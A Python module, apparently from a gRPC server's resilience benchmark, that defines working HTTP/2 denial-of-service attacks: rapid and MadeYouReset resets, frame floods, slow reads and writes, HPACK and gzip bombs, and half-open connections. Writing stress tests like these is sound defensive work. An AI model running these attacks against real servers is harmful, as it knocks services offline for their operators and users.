"""The attacks by name. Each is the behaviour of one connection until its end; a connection that is cut is replaced."""

import gzip
import itertools
import math
import ssl
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

from benchmarks.attacks.line import DEFAULT_WINDOW, MAX_WINDOW, Line, RuleBroken, settings
from hpack import Encoder
from tests.wire import (
    CANCEL,
    CONTINUATION,
    DATA,
    EACH,
    END_HEADERS,
    END_STREAM,
    GENERATE,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    PADDED,
    PING,
    PREFACE,
    PRIORITY,
    RST_STREAM,
    WINDOW_UPDATE,
    frame,
    head,
    message,
    request,
)

CHECK, WATCH = "/grpc.health.v1.Health/Check", "/grpc.health.v1.Health/Watch"
PIXELS = 784  # of one image
LARGE = 1000  # images: an answer of 784 kB, a quarter of the server's queue
STREAMS = 1000  # the server's default of calls on one connection
PACED = 900  # costly frames that the server reads together: below its limit of a thousand


@dataclass(frozen=True)
class Attack:
    run: Callable[[Line], None]
    connections: tuple[int, ...] = (1, 50)
    tls: bool = False  # whether the server uses TLS
    passive: bool = False  # connections only wait after `run`: one thread serves thousands of them
    line: dict[str, Any] = field(default_factory=dict)


ATTACKS: dict[str, Attack] = {}


def attack(name: str, **options: Any) -> Callable[[Callable[[Line], None]], Callable[[Line], None]]:
    def keep(run: Callable[[Line], None]) -> Callable[[Line], None]:
        of_attack = {key: options.pop(key) for key in ("connections", "tls", "passive") if key in options}
        ATTACKS[name] = Attack(run, **of_attack, line=options)
        return run

    return keep


def block(path: str = GENERATE, *more: tuple[str, str], huffman: bool = False) -> bytes:
    """Encode a request's headers without using or changing the dynamic table."""
    return Encoder().encode([(name, value, True) for name, value in head(path, *more)], huffman=huffman)


GENERATES, CHECKS, EACHES, WATCHES = block(GENERATE), block(CHECK), block(EACH), block(WATCH)
ONE, MANY = message(request(1)), message(request(LARGE))
# Made once, because making them takes longer than sending them.
GZIP, BOMB = block(GENERATE, ("grpc-encoding", "gzip")), message(gzip.compress(bytes(4 << 20)), compressed=1)
HUFFMAN = block(CHECK, ("x", "&*,;XZ" * 2600), huffman=True)  # codes of 8 bits
OF_12_KIB = block(CHECK, *((f"x-{number}", "v" * 4000) for number in range(3)))
OF_20_KB = block(CHECK, *((f"x-{number}", "v" * 1000) for number in range(20)))
OF_8_KB = block(GENERATE, ("x", "v" * 8000))


def four(value: int) -> bytes:
    return value.to_bytes(4, "big")


# Streams that are opened only to be ended.


@attack("rapid reset")
def rapid_reset(line: Line) -> None:
    while True:
        for _ in range(500):
            line.write(frame(RST_STREAM, 0, line.call(GENERATES, ONE), four(CANCEL)))
        line.flush()


@attack("paced resets")
def paced_resets(line: Line) -> None:
    while True:
        for _ in range(PACED):
            line.write(frame(RST_STREAM, 0, line.call(GENERATES, ONE), four(CANCEL)))
        line.read_up()


def made_you_reset(line: Line, mistake: Callable[[int], None]) -> None:
    """Make the server reset calls that have begun (CVE-2025-8671)."""
    while True:
        for _ in range(100):
            mistake(line.call(GENERATES, ONE))
        line.flush()


@attack("MadeYouReset: WINDOW_UPDATE 0")
def window_update_of_nothing(line: Line) -> None:
    made_you_reset(line, lambda stream: line.write(frame(WINDOW_UPDATE, 0, stream, four(0))))


@attack("MadeYouReset: window overflow")
def window_overflow(line: Line) -> None:
    made_you_reset(line, lambda stream: line.write(frame(WINDOW_UPDATE, 0, stream, four(MAX_WINDOW))))


@attack("MadeYouReset: DATA after END_STREAM")
def data_after_the_end(line: Line) -> None:
    made_you_reset(line, lambda stream: line.data(stream, b"\0"))


@attack("MadeYouReset: HEADERS after END_STREAM")
def headers_after_the_end(line: Line) -> None:
    made_you_reset(line, lambda stream: line.write(frame(HEADERS, END_HEADERS | END_STREAM, stream, CHECKS)))


# Floods of frames.


@attack("CONTINUATION, a byte each")
def small_continuations(line: Line) -> None:
    stream = line.new_id()
    line.write(frame(HEADERS, 0, stream, GENERATES))
    while True:
        line.write(frame(CONTINUATION, 0, stream, b"\0") * 1000)


@attack("CONTINUATION, endless")
def endless_continuations(line: Line) -> None:
    stream = line.new_id()
    line.write(frame(HEADERS, 0, stream, OF_8_KB))
    while True:
        line.write(frame(CONTINUATION, 0, stream, OF_8_KB))


@attack("PING flood")
def pings(line: Line) -> None:
    while True:
        line.write(frame(PING, 0, 0, bytes(8)) * 1000)


@attack("SETTINGS flood")
def many_settings(line: Line) -> None:
    while True:
        line.write(settings({}) * 5000)


@attack("SETTINGS flood, paced")
def paced_settings(line: Line) -> None:
    while True:
        line.write(settings({}) * PACED)
        line.read_up()


@attack("SETTINGS of changing windows")
def changing_windows(line: Line) -> None:
    """Change the windows of a thousand open streams with each frame."""
    while len(line.live) < STREAMS:
        line.open(EACHES)
    pair = settings({INITIAL_WINDOW_SIZE: 0}) + settings({INITIAL_WINDOW_SIZE: DEFAULT_WINDOW})
    while True:
        line.write(pair * (PACED // 2))
        line.read_up()


@attack("PRIORITY flood")
def priorities(line: Line) -> None:
    while True:
        line.write(b"".join(frame(PRIORITY, 0, line.new_id(), bytes(5)) for _ in range(1000)))


@attack("WINDOW_UPDATE flood")
def window_updates(line: Line) -> None:
    while True:
        line.write(frame(WINDOW_UPDATE, 0, 0, four(1)) * 1000)


@attack("RST_STREAM of a closed stream")
def closed_resets(line: Line) -> None:
    closed = frame(RST_STREAM, 0, line.call(GENERATES, ONE), four(CANCEL))
    while True:
        line.write(closed * 1000)


@attack("empty DATA")
def empty_data(line: Line) -> None:
    empty = frame(DATA, 0, line.open(EACHES)) * 1000
    while True:
        line.write(empty)


# Answers that are not read.


@attack("zero window", values={INITIAL_WINDOW_SIZE: 0})
def zero_window(line: Line) -> None:
    # One call in 20 ms: of more than four at once, the server refuses some, because its queue is full.
    line.keep_open(64, lambda: line.call(GENERATES, MANY), at_once=1)


@attack("negative window", values={INITIAL_WINDOW_SIZE: 1 << 20}, granted=0)
def negative_window(line: Line) -> None:
    """Make a stream's window negative while the connection's window holds its answer back; then open both windows."""
    stream = line.call(GENERATES, MANY)
    line.until(lambda: line.received >= DEFAULT_WINDOW or stream not in line.live)
    line.write(settings({INITIAL_WINDOW_SIZE: 0}) + frame(WINDOW_UPDATE, 0, 0, four(1 << 20)))
    line.read_up()
    if line.received > DEFAULT_WINDOW:
        raise RuleBroken("it sends on a stream whose window is negative")
    line.write(settings({INITIAL_WINDOW_SIZE: 1 << 20}))
    line.until(lambda: stream not in line.live)
    line.wait(0.02)


@attack("slow read", values={INITIAL_WINDOW_SIZE: MAX_WINDOW}, reads=False, receive_buffer=4096)
def slow_read(line: Line) -> None:
    """Ask for four answers of 784 kB a second, and read a byte of them."""
    while True:
        for _ in range(4):
            line.call(GENERATES, MANY)
            line.wait(0.25)
        line.socket.recv(1)


@attack("unread control answers", reads=False, receive_buffer=4096)
def unread_control_answers(line: Line) -> None:
    pings(line)


@attack("health.Watch, window 0", values={INITIAL_WINDOW_SIZE: 0})
def watches(line: Line) -> None:
    nothing = message(b"")  # asks for the health of the whole server
    line.keep_open(STREAMS, lambda: line.call(WATCHES, nothing))


# Requests that are not finished.


def unfinished(line: Line, headers: bytes, size: int, total: int) -> None:
    """Keep unfinished requests open; `total` is the number over all connections."""
    body = (size + 1000).to_bytes(5, "big") + bytes(size - 5)
    streams = min(STREAMS, math.ceil(total / line.of))
    line.keep_open(streams, lambda: line.data(line.open(headers), body))


@attack("unfinished requests of 64 KiB")
def unfinished_64_kib(line: Line) -> None:
    unfinished(line, GENERATES, 64 << 10, 4200)


@attack("unfinished requests of 4 KiB", connections=(1, 70))
def unfinished_4_kib(line: Line) -> None:
    unfinished(line, GENERATES, 4096, 70_000)


@attack("unfinished health.Check", connections=(1, 70))
def unfinished_checks(line: Line) -> None:
    body = (4096).to_bytes(5, "big") + bytes(4091)
    line.keep_open(STREAMS, lambda: line.data(line.open(CHECKS), body))


@attack("slow write")
def slow_write(line: Line) -> None:
    """Write a byte a second of each of a hundred requests."""
    content = message(bytes(1 << 20))
    streams = [line.open(GENERATES) for _ in range(100)]
    for position in itertools.count():
        for stream in streams:
            if stream in line.live:
                line.data(stream, content[position : position + 1])
        line.wait(1)


@attack("open calls with 12 KiB of metadata")
def much_metadata(line: Line) -> None:
    line.keep_open(STREAMS, lambda: line.open(OF_12_KIB))


# Amplification.


@attack("HPACK bomb")
def indexed_repeats(line: Line) -> None:
    """Refer to a table entry of 4 KB thousands of times, with a byte each (CVE-2016-6581)."""
    entry = b"\x40\x01x" + b"\x7f\xa1\x1e" + b"v" * 4000
    line.open(CHECKS + entry, END_HEADERS | END_STREAM)
    while True:
        line.open(CHECKS + b"\xbe" * 16000, END_HEADERS | END_STREAM)


@attack("HPACK, Huffman code")
def huffman(line: Line) -> None:
    while True:
        line.open(HUFFMAN, END_HEADERS | END_STREAM)


@attack("headers of 20 KB in 20 CONTINUATIONs")
def long_headers(line: Line) -> None:
    while True:
        line.open(OF_20_KB, END_HEADERS | END_STREAM, size=1024)


@attack("padding")
def padding(line: Line) -> None:
    """Send a message of 1 MiB, a byte in each frame of 257."""
    while True:
        stream = line.open(GENERATES)
        for byte in message(bytes(1 << 20)):
            line.data(stream, bytes((255, byte)) + bytes(255), PADDED)


@attack("gzip bombs")
def gzip_bombs(line: Line) -> None:
    while True:
        line.call(GZIP, BOMB)


@attack("empty messages", values={INITIAL_WINDOW_SIZE: MAX_WINDOW})
def empty_messages(line: Line) -> None:
    while True:
        stream = line.open(EACHES)
        while stream in line.live:
            line.data(stream, bytes(5 * 3000))


# Connections.


@attack("half-open TLS", tls=True, passive=True, greets=False)
def half_open_tls(line: Line) -> None:
    out = ssl.MemoryBIO()
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.set_alpn_protocols(["h2"])
    hello = context.wrap_bio(ssl.MemoryBIO(), out, server_hostname="localhost")
    try:
        hello.do_handshake()
    except ssl.SSLWantReadError:
        line.write(out.read())


@attack("connect and close")
def connect_and_close(line: Line) -> None:
    line.flush()
    line.leave()


@attack("partial preface", passive=True, greets=False)
def partial_preface(line: Line) -> None:
    line.write(PREFACE[:-4])


@attack("idle connections", passive=True, connections=(50, 1_900))
def idle(line: Line) -> None:
    """Send only the preface, on up to a hundred connections less than the server's default limit."""
